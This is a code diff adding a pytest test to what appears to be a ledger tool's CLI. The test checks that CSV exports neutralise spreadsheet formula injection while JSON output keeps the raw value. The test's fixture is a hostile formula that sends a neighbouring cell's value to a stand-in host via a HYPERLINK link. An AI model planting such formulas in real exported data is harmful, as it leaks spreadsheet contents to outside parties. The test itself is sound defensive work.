@@ -52,6 +52,16 @@ def test_totals_for_programs_are_equal_to_the_rows(tiers: Ledger, treasury_here:
         treasury_here("totals", "--keep")
 
 
+def test_csv_has_no_text_that_a_spreadsheet_takes_for_a_formula(ledger: Ledger, treasury_here: Treasury) -> None:
+    formula = '=HYPERLINK("http://x.example/?"&B2)'
+    ledger.fill(HOT, client_id=formula)
+    asked = ("totals", *RANGE, "--group-by", "client_id")
+    (client,) = {one["client_id"] for one in csv.DictReader(io.StringIO(treasury_here(*asked, "--csv").stdout))}
+    assert client == f"'{formula}"
+    (client,) = {one["client_id"] for one in json.loads(treasury_here(*asked, "--json").stdout)}
+    assert client == formula  # programs get the value
+
+
 @pytest.mark.heavy("totals for programs are tested beside it")
 def test_an_answer_without_rows_is_an_empty_list_and_a_head(tiers: Ledger, treasury_here: Treasury) -> None:
     days = ("--from", "2020-01-01", "--to", "2020-01-02")
